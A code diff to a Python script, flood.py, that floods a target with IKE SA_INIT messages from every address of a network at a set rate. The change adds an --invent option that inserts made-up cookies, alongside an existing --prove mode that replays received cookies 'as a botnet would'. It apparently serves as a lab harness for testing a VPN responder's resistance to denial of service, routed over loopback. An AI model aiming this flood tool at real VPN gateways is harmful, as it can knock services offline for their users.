@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 """Sends first IKE messages from every address of a network, at a rate, until it is stopped; then says in a
 line of JSON what it sent and got. The network must be routed to this host's lo. With --prove it returns the
-cookies that it gets, as a botnet would, and goes no further.
+cookies that it gets, as a botnet would, and goes no further. With --invent it makes cookies up.
 
-  flood.py 10.77.0.0/16 198.51.100.1 --rate 3000 [--prove]
+  flood.py 10.77.0.0/16 198.51.100.1 --rate 3000 [--prove | --invent]
 """
 import argparse
 import ipaddress
@@ -25,7 +25,7 @@ TURN_S = 0.005
 
 
 class Flood:
-    def __init__(self, network, target, rate, prove):
+    def __init__(self, network, target, rate, prove, invent):
         self.network, self.target, self.rate, self.prove = network, target, rate, prove
         self.ipv6 = network.version == 6
         self.random = random.Random(1)
@@ -34,7 +34,8 @@ class Flood:
                     (ike.KE, struct.pack("!HH", 31, 0) + self.random.randbytes(32)),
                     (ike.NONCE, self.random.randbytes(32))]
         self.payloads = payloads
-        self.bare = ike.message(bytes(8), bytes(8), SA_INIT, ike.INITIATOR, 0, payloads)[8:]
+        invented = [ike.notify(ike.COOKIE, self.random.randbytes(9))] if invent else []
+        self.bare = ike.message(bytes(8), bytes(8), SA_INIT, ike.INITIATOR, 0, invented + payloads)[8:]
         self.socket = socket.socket(socket.AF_INET6 if self.ipv6 else socket.AF_INET, socket.SOCK_DGRAM)
         self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
         if self.ipv6:
@@ -101,8 +102,9 @@ def main():
     parser.add_argument("target")
     parser.add_argument("--rate", type=float, default=1000)
     parser.add_argument("--prove", action="store_true")
+    parser.add_argument("--invent", action="store_true")
     arguments = parser.parse_args()
-    flood = Flood(arguments.network, arguments.target, arguments.rate, arguments.prove)
+    flood = Flood(arguments.network, arguments.target, arguments.rate, arguments.prove, arguments.invent)
     signal.signal(signal.SIGTERM, flood.stop)
     flood.run()
 
